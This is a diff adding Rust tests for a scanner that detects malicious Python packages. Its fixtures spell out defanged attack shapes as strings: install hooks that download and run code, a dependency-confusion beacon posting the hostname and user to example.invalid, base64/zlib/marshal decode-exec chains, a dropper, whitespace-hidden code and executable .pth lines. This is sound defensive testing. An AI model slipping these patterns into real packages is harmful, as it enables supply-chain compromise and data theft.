@@ -1,0 +1,137 @@
+//! Synthetic, defanged fixtures: each positive shows one behaviour with a harmless target
+//! (example.invalid, documentation IP ranges), each negative shows what honest packages do.
+
+use super::*;
+
+fn rules(path: &str, code: &str, ctx: Context) -> Vec<String> {
+    let mut r: Vec<String> = analyze(path, code.as_bytes(), ctx, path.ends_with(".pth")).findings.into_iter().map(|f| f.rule).collect();
+    r.sort();
+    r.dedup();
+    r
+}
+
+fn setup(code: &str) -> Vec<String> {
+    rules("demo-1.0/setup.py", code, Context::Install)
+}
+
+#[test]
+fn install_time_download_and_run() {
+    let code = r#"
+import os
+from urllib.request import urlopen
+from setuptools import setup
+data = urlopen("http://example.invalid/x").read()
+os.system("sh /tmp/x")
+setup(name="demo")
+"#;
+    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
+}
+
+#[test]
+fn install_command_override_with_aliases() {
+    let code = r#"
+from setuptools import setup
+from setuptools.command.install import install
+import requests as r
+from subprocess import Popen as P
+class Hook(install):
+    def run(self):
+        r.get("https://example.invalid/payload")
+        P(["python", "-c", "print(1)"])
+        install.run(self)
+setup(name="demo", cmdclass={"install": Hook})
+"#;
+    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
+}
+
+#[test]
+fn dependency_confusion_beacon() {
+    let code = r#"
+import socket, getpass, requests
+from setuptools import setup
+requests.post("https://example.invalid/c", json={"h": socket.gethostname(), "u": getpass.getuser()})
+setup(name="internal-lib", version="99.0.0")
+"#;
+    assert!(setup(code).contains(&"py-install-exfil-hostinfo".to_string()), "{:?}", setup(code));
+}
+
+#[test]
+fn decode_exec_chains() {
+    for code in [
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+        "import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))\n",
+        "from base64 import b64decode as d\neval(compile(d('cHJpbnQoMSk='), '<x>', 'exec'))\n",
+        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
+        "import zlib, base64\ncode = zlib.decompress(base64.b64decode('eJw='))\nexec(code)\n",
+        "_ = lambda __ : __import__('zlib').decompress(__[::-1])\nexec((_)(b'x'))\n",
+        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
+        "import marshal\nexec(marshal.loads(b'\\xe3'))\n",
+        "__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
+    ] {
+        let r = rules("demo-1.0/setup.py", code, Context::Install);
+        assert!(r.contains(&"py-decode-exec".to_string()), "{code}: {r:?}");
+    }
+}
+
+#[test]
+fn network_exec() {
+    let code = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n";
+    assert!(rules("pkg/mod.py", code, Context::Module).contains(&"py-network-exec".to_string()));
+}
+
+#[test]
+fn import_time_behaviour() {
+    let code = "import requests, subprocess\nrequests.get('https://example.invalid')\nsubprocess.run(['id'])\n";
+    assert!(rules("pkg/__init__.py", code, Context::Import).contains(&"py-import-download-exec".to_string()));
+    // The same inside a function of __init__ runs only when called.
+    let code = "import requests, subprocess\ndef update():\n    requests.get('https://example.invalid')\n    subprocess.run(['id'])\n";
+    assert!(!rules("pkg/__init__.py", code, Context::Import).contains(&"py-import-download-exec".to_string()));
+}
+
+#[test]
+fn dropper_shape() {
+    let code = "import requests, subprocess\ndef go():\n    d = requests.get('https://example.invalid/a.exe').content\n    with open('a.exe', 'wb') as f:\n        f.write(d)\n    subprocess.Popen(['a.exe'])\n";
+    assert!(rules("pkg/util.py", code, Context::Module).contains(&"py-dropper".to_string()));
+}
+
+#[test]
+fn hidden_code_and_pth() {
+    let code = format!("x = 1{}; import os; os.system('id')\n", " ".repeat(200));
+    assert!(rules("pkg/mod.py", &code, Context::Module).contains(&"py-hidden-code".to_string()));
+    let r = rules("evil.pth", "import os; os.system('id')\n", Context::Install);
+    assert!(r.contains(&"pth-executable-line".to_string()), "{r:?}");
+    assert!(r.contains(&"py-install-process".to_string()), "{r:?}");
+}
+
+#[test]
+fn honest_setup_py_is_quiet() {
+    let code = r#"
+import os, re, subprocess, sys
+from setuptools import setup, Extension
+here = os.path.abspath(os.path.dirname(__file__))
+exec(open(os.path.join(here, "demo", "_version.py")).read())
+def git_rev():
+    try:
+        return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
+    except Exception:
+        return ""
+if os.environ.get("DEMO_DEBUG"):
+    print("debug build")
+setup(name="demo", version=__version__, ext_modules=[Extension("demo._c", ["src/c.c"])])
+"#;
+    let r = setup(code);
+    assert!(r.iter().all(|x| x == "py-install-process"), "{r:?}");
+}
+
+#[test]
+fn honest_library_network_and_subprocess() {
+    let code = "import requests, subprocess, base64\ndef fetch(url):\n    return requests.get(url).json()\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\ndef token(s):\n    return base64.b64decode(s)\n";
+    assert!(rules("pkg/client.py", code, Context::Module).is_empty());
+    assert!(rules("pkg/__init__.py", code, Context::Import).is_empty());
+}
+
+#[test]
+fn python2_and_broken_code_still_parse() {
+    let code = "import base64\nprint 'hello'\nexec base64.b64decode('cHJpbnQoMSk=')\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
+}
